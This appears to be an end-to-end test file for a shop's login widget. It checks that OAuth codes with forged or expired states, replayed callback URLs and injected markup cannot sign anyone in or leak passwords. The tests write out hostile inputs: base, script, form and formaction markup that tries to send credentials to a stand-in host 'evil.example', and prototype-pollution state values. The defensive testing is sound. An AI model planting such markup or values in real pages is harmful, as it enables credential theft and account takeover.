// Addresses and markup that try to sign a visitor in as another person, or to send a password to another host.
// @module-tag journey
import type { BrowserContext, Page } from 'playwright-core';
import { expect, test } from 'vitest';
import * as login from '../../support/browser/login.ts';
import { eventually, openShop } from '../../support/browser/shop.ts';
import { FAILED_REQUEST, type Visit } from '../../support/browser/visit.ts';

const shop = await openShop();
const members = await login.openMembers(shop);

const EVIL = 'https://evil.example';
const STATE = 'S'.repeat(43);
const redirect = 'data-login="redirect"';

/** Collects the bodies of all later token requests that carry an authorization code. */
const codesSent = (page: Page): string[] => {
  const sent: string[] = [];
  page.on('request', (request) => {
    const body = request.postData() ?? '';
    if (request.url().endsWith('/oauth2/token') && body.includes('authorization_code'))
      sent.push(body);
  });
  return sent;
};

/** Opens a page with `tail` appended to its address, and waits until the member code has read the address. */
const arriveWith = async (
  tail: string,
  options: login.MemberPageOptions = {},
): Promise<Visit & { sent: string[] }> => {
  let sent: string[] = [];
  const visit = await members.openPage({
    tail,
    ...options,
    prepare: (opening) => {
      sent = codesSent(opening);
      return options.prepare?.(opening);
    },
  });
  await login.signInButton(visit.page).waitFor();
  await visit.page.waitForLoadState('networkidle');
  return { ...visit, sent };
};

for (const state of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', STATE]) {
  test(`a code with the state ${state}, which belongs to no login, signs nobody in and stays in the address`, async () => {
    for (const mark of ['?', '#']) {
      const tail = `${mark}code=of-the-attacker&state=${state}`;
      const { page, sent } = await arriveWith(tail, { attributes: redirect });
      expect(await login.memberOf(page)).toEqual({ isMember: false });
      expect(sent).toEqual([]);
      expect(page.url()).toContain(tail);
    }
  });
}

for (const [ago, age, count] of [
  ['one minute', 60_000, 1],
  ['eleven minutes', 660_000, 0],
] as const) {
  test(`the code for a login that began ${ago} ago is sent ${count ? 'once' : 'nowhere'}`, async () => {
    const stored = { name: `pannier:sandbox-client:login:${STATE}`, age };
    const { page, sent } = await arriveWith(`#code=of-the-attacker&state=${STATE}`, {
      expected: [FAILED_REQUEST],
      prepare: (opening) =>
        opening.addInitScript(({ name, age }) => {
          const [page] = location.href.split('#');
          const addresses = { redirectUri: page, originalUri: page };
          const codeVerifier = 'v'.repeat(43);
          const transaction = { ...addresses, codeVerifier, at: Date.now() - age };
          sessionStorage.setItem(name, JSON.stringify(transaction));
        }, stored),
    });
    await eventually(() => page.evaluate((name) => sessionStorage.getItem(name), stored.name)).toBe(
      null,
    );
    expect(await login.memberOf(page)).toEqual({ isMember: false });
    expect(sent).toHaveLength(count);
    expect(page.url()).not.toContain('of-the-attacker');
  });
}

/** Signs in on the platform's page and returns the callback address before any page has loaded it. */
const unspentAnswer = async (): Promise<{ callback: string; context: BrowserContext }> => {
  const { page, context } = await members.openPage({ attributes: redirect });
  await login.signInButton(page).click();
  await page.waitForURL(/\/hosted\/login/);
  await page.route(`${shop.ownPages}/**`, (route) => route.abort());
  const answered = page.waitForResponse((response) =>
    /[?#&]code=/.test(response.headers()['location'] ?? ''),
  );
  await page.getByLabel('Email').fill(login.MIRA.email);
  await page.getByLabel('Password').fill(login.MIRA.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  return { callback: (await answered).headers()['location'] ?? '', context };
};

test('the callback URL of a login in another browser signs nobody in, and its code is not sent', async () => {
  const { callback, context } = await unspentAnswer();
  const tail = callback.slice(callback.search(/[?#]/));
  expect(tail).toMatch(/code=.+state=[\w-]{43}|state=[\w-]{43}.+code=/);
  const { page, sent } = await arriveWith(tail, { attributes: redirect });
  expect(await login.memberOf(page)).toEqual({ isMember: false });
  expect(await login.roleOf(page)).not.toBe('member');
  expect(sent).toEqual([]);
  await context.close();
});

test('injected markup around the sign-in button and the dialog cannot redirect the password to another address', async () => {
  const { page, requests } = await members.openPage({
    head: `<base href="${EVIL}/">`,
    body: `<meta name="data-api" content="${EVIL}">
      <script type="text/plain" data-client-id="sandbox-client" data-api="${EVIL}" src="${EVIL}/pannier.js"></script>
      <div data-pannier-node="login-form" data-api="${EVIL}" action="${EVIL}"></div>
      <form id="evil" action="${EVIL}" method="post">
        <pannier-login api="${EVIL}" data-api="${EVIL}" action="${EVIL}" form="evil" data-captcha-src="${EVIL}/captcha.js"></pannier-login>
        <button type="submit" formaction="${EVIL}">Send</button>
      </form>`,
    prepare: (opening) => opening.route(`${EVIL}/**`, (route) => route.abort()),
  });
  await login.signInButton(page).first().click();
  await login.emailField(page).waitFor();
  await login.submitLogin(page, login.MIRA);
  await login.accountButton(page).first().waitFor();
  expect(requests().filter((request) => request.includes(EVIL))).toEqual([]);
});

test('the captcha script gets the nonce of the loader’s tag, even if a foreign script has data-pannier-node', async () => {
  await members.settings({ captcha: 'visible' });
  const { page } = await members.openPage({
    head: `<meta http-equiv="Content-Security-Policy" content="script-src 'nonce-owner'">
      <script type="text/plain" data-pannier-node nonce="stranger"></script>`,
    attributes: 'nonce="owner"',
    expected: [FAILED_REQUEST],
  });
  await login.signInPastCheck(page);
});
